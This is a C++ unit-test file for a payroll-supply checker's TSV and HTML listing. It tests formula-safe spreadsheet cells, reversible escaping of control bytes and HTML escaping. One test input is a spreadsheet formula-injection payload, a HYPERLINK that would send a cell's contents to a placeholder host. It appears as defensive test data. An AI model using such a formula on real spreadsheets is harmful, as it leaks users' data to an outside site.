// The listing: one TSV row per person under one header, texts made safe for a spreadsheet and for a page;
// on the page each person's findings under its row and the findings about the supply apart.

#include "verifica/distinta.h"
#include "tests/supporto/cartella_temporanea.h"
#include "verifica/tests/supporto_fornitura.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

namespace verifica {

using lettura::Esito;
using lettura::Gravita;

namespace {

using test::FornituraProva;

TEST(Distinta, TsvUnaRigaPerPersona) {
    const auto f = FornituraProva(
        {{"d", "AAA", "D'ARCO\tX", "MARIA", "1", "1.500,00", ""}, {"c", "CCC", "VERDI", "LUC\xC0", "", "", "27,72"}});
    std::ostringstream tsv;
    ScriviDistintaTsv(f, tsv);
    EXPECT_EQ(tsv.str(), "tipo\tcodice fiscale\tcognome\tnome\tmodulo\timponibile\taliquota\n"
                         "dipendente\tAAA\tD'ARCO\\x09X\tMARIA\t1\t1.500,00\t\n"
                         "collaboratore\tCCC\tVERDI\tLUC\xC3\x80\t\t\t27,72\n");
}

// A cell that a spreadsheet would run as a formula is text, a cell with a quote, TAB or line end stays one
// cell, a control character never reaches the file raw; and each value is read back as it was.
TEST(Distinta, CelleSicureInUnFoglioDiCalcolo) {
    // clang-format off
    const std::vector<std::pair<std::string, std::string>> casi = {
        {"=HYPERLINK(\"HTTP://X.INVALID/?\"&A1;\"CLIC\")", "\"'=HYPERLINK(\"\"HTTP://X.INVALID/?\"\"&A1;\"\"CLIC\"\")\""},
        {"+SUM(1+1)",           "'+SUM(1+1)"},
        {"-2+3",                "'-2+3"},
        {"@SUM(A1)",            "'@SUM(A1)"},
        {"'APOSTROFO",          "''APOSTROFO"},
        {"\"ROSSI",             "\"\"\"ROSSI\""},
        {"A\tB\r\nC\x1B[31m",     "A\\x09B\\x0D\\x0AC\\x1B[31m"},
        {"-1.234,56",           "-1.234,56"},
        {"+12",                 "+12"},
        {"D'ARCO",              "D'ARCO"},
        {"NICOL\xD2 \x85",      "NICOL\xC3\x92 \\x85"},
    };
    // clang-format on
    for (const auto& [valore, cella] : casi) {
        EXPECT_EQ(CellaTsv(valore), cella) << valore;
        EXPECT_EQ(ValoreDaCellaTsv(CellaTsv(valore)), valore) << valore;
    }
    // Whole rows: as many cells as columns, each read back.
    const auto f = FornituraProva({{"d", "=1+1", "\"A\tB\"", "C\nD", "1", "-2+3", "@X"}});
    std::ostringstream tsv;
    ScriviDistintaTsv(f, tsv);
    std::istringstream righe(tsv.str());
    std::string riga;
    std::getline(righe, riga);
    ASSERT_TRUE(std::getline(righe, riga));
    std::vector<std::string> celle;
    for (std::size_t inizio = 0, tab;; inizio = tab + 1) {
        tab = riga.find('\t', inizio);
        celle.push_back(ValoreDaCellaTsv(riga.substr(inizio, tab - inizio)));
        if (tab == std::string::npos)
            break;
    }
    EXPECT_EQ(celle, (std::vector<std::string>{"dipendente", "=1+1", "\"A\tB\"", "C\nD", "1", "-2+3", "@X"}));
    EXPECT_FALSE(std::getline(righe, riga)) << "una riga di troppo: " << riga;
}

// A backslash that would read as a code is written as one: a TAB and the text "\x09" make two cells, and
// each reads back as it was; a backslash that reads as no code stays as it is.
TEST(Distinta, CelleReversibili) {
    // clang-format off
    const std::vector<std::pair<std::string, std::string>> casi = {
        {"\t",             "\\x09"},
        {"\\x09",          "\\x5Cx09"},
        {"\\x5C",          "\\x5Cx5C"},
        {"\\\t",          "\\\\x09"},
        {"\\x41",          "\\x41"},
        {"\\x1b",          "\\x1b"},
        {"C:\\DATI\\X",    "C:\\DATI\\X"},
        {"\\x0",           "\\x0"},
        {"A\\",            "A\\"},
        {"'\\x7F",         "''\\x5Cx7F"},
    };
    // clang-format on
    for (const auto& [valore, cella] : casi) {
        EXPECT_EQ(CellaTsv(valore), cella) << valore;
        EXPECT_EQ(ValoreDaCellaTsv(cella), valore) << cella;
    }
    // Every byte, alone, between letters, after a backslash and after "\x", and every code "\xHH" as text:
    // each value back as it was, and no two values of one kind in the same cell.
    std::vector<std::string> valori;
    constexpr std::string_view Esadecimali = "0123456789ABCDEF";
    const auto con = [](std::string_view prima, char c, std::string_view dopo) {
        std::string valore(prima);
        valore += c;
        valore.append(dopo);
        return valore;
    };
    for (int b = 0; b < 256; ++b) {
        const char c = static_cast<char>(b);
        const std::string codice = {'\\', 'x', Esadecimali[b >> 4], Esadecimali[b & 0xF]};
        for (std::string v : {con("", c, ""), con("a", c, "b"), con("\\", c, ""), con("\\x", c, ""), codice,
                              con(codice, '\\', codice.substr(1)), con("=", '\\', codice.substr(1))})
            valori.push_back(v);
    }
    std::map<std::string, std::string> celle;
    for (const std::string& valore : valori) {
        const std::string cella = CellaTsv(valore);
        EXPECT_EQ(ValoreDaCellaTsv(cella), valore) << cella;
        EXPECT_EQ(cella.find_first_of("\t\r\n"), std::string::npos) << cella;
        const auto [prima, nuova] = celle.emplace(cella, valore);
        EXPECT_TRUE(nuova || prima->second == valore) << "'" << valore << "' e '" << prima->second << "': " << cella;
    }
}

TEST(Distinta, PaginaConRilieviPerPersona) {
    auto f = FornituraProva({{"d", "AAA", "ROSSI & <FIGLI>", "MARIO", "1", "1.500,00", ""},
                             {"d", "BBB", "BIANCHI", "ANNA", "2", "2.000,00", ""}});
    f.Segnala({Gravita::Errore, 11, 30, "codice fiscale 'BBB' non valido", 1});
    f.Segnala({Gravita::Avviso, 0, 0, "nome del file diverso", -1});
    f.esito.errori = 1;
    f.esito.avvisi = 1;
    std::ostringstream html;
    ScriviDistintaHtml(f, "INPSUNIEMENS-2012-03.xml, 01/04/2012 10:00", html);
    const std::string pagina = html.str();
    EXPECT_NE(pagina.find("ROSSI &amp; &lt;FIGLI&gt;"), std::string::npos);
    EXPECT_EQ(pagina.find("<FIGLI>"), std::string::npos);
    EXPECT_NE(pagina.find("1 errore, 1 avviso"), std::string::npos);
    // The finding about BBB sits in BBB's group of rows, after its row.
    const auto bbb = pagina.find("<td>BBB</td>");
    const auto rilievo = pagina.find("codice fiscale &#39;BBB&#39; non valido");
    ASSERT_NE(bbb, std::string::npos);
    ASSERT_NE(rilievo, std::string::npos);
    EXPECT_LT(bbb, rilievo);
    EXPECT_EQ(pagina.rfind("<tbody class=\"persona\">", rilievo), pagina.rfind("<tbody class=\"persona\">", bbb));
    // The one about the supply before the tables of persons.
    EXPECT_LT(pagina.find("nome del file diverso"), pagina.find("<h2>Dipendenti (2)</h2>"));
    EXPECT_EQ(pagina.find("<script"), std::string::npos);
    EXPECT_EQ(pagina.find("src="), std::string::npos);
}

std::size_t Volte(const std::string& testo, const std::string& parte) {
    std::size_t volte = 0;
    for (auto p = testo.find(parte); p != std::string::npos; p = testo.find(parte, p + 1))
        ++volte;
    return volte;
}

// On the page, of a rule the first hundred findings where they belong (the supply's, a person's row) and one
// line for the others among the findings about the supply; the verdict counts them all.
TEST(Distinta, PaginaConRilieviOltreICentoInUnaRiga) {
    shell::test::CartellaTemporanea dir;
    shell::test::ScriviFile(dir / "MV.TXT", test::TfrConRigheSconosciute(150));
    const FornituraLetta letta = LeggiFornitura(dir / "MV.TXT");
    auto persona = FornituraProva({{"d", "AAA", "ROSSI", "MARIO", "1", "1.500,00", ""}});
    for (int i = 0; i < 120; ++i)
        persona.Segnala({Gravita::Avviso, 11 + i, 4, "giorno " + std::to_string(i) + " senza ore", 0});
    persona.esito.avvisi = 120;
    persona.FineLettura();
    struct Caso {
        const FornituraLetta& fornitura;
        std::string mostrato; // in each finding of the rule shown
        std::string riepilogo, esito;
    };
    // clang-format off
    const Caso casi[] = {
        {letta,   "errore: tipo di record &#39;",
         "errore: e altri 50 rilievi uguali al primo (riga 2): tipo di record &#39;X&#39; sconosciuto: attesi 1, 2, 3, 4, 9",
         "154 errori, 0 avvisi"},
        {persona, "avviso: giorno ",
         "avviso: e altri 20 rilievi uguali al primo (riga 11): giorno 0 senza ore",
         "Nessun errore: la fornitura pu\xC3\xB2 essere inviata (120 avvisi)"},
    };
    // clang-format on
    for (const Caso& caso : casi) {
        std::ostringstream html;
        ScriviDistintaHtml(caso.fornitura, "MV.TXT", html);
        const std::string pagina = html.str();
        EXPECT_EQ(Volte(pagina, caso.mostrato), 100u) << caso.riepilogo;
        EXPECT_EQ(Volte(pagina, caso.riepilogo + "</li>"), 1u) << pagina;
        const auto riepilogo = pagina.find(caso.riepilogo);
        EXPECT_GT(riepilogo, pagina.find("<h2>Rilievi sulla fornitura</h2>"));
        EXPECT_LT(riepilogo, std::min(pagina.find("<h2>Dipendenti"), pagina.find("</body>")));
        EXPECT_NE(pagina.find(caso.esito), std::string::npos) << caso.esito;
    }
}

TEST(Distinta, Esito) {
    Esito e;
    EXPECT_EQ(TestoEsito(e), "Nessun errore: la fornitura pu\xF2 essere inviata");
    e.avvisi = 2;
    EXPECT_EQ(TestoEsito(e), "Nessun errore: la fornitura pu\xF2 essere inviata (2 avvisi)");
    e.errori = 3;
    EXPECT_EQ(TestoEsito(e), "3 errori, 2 avvisi");
}

} // namespace
} // namespace verifica
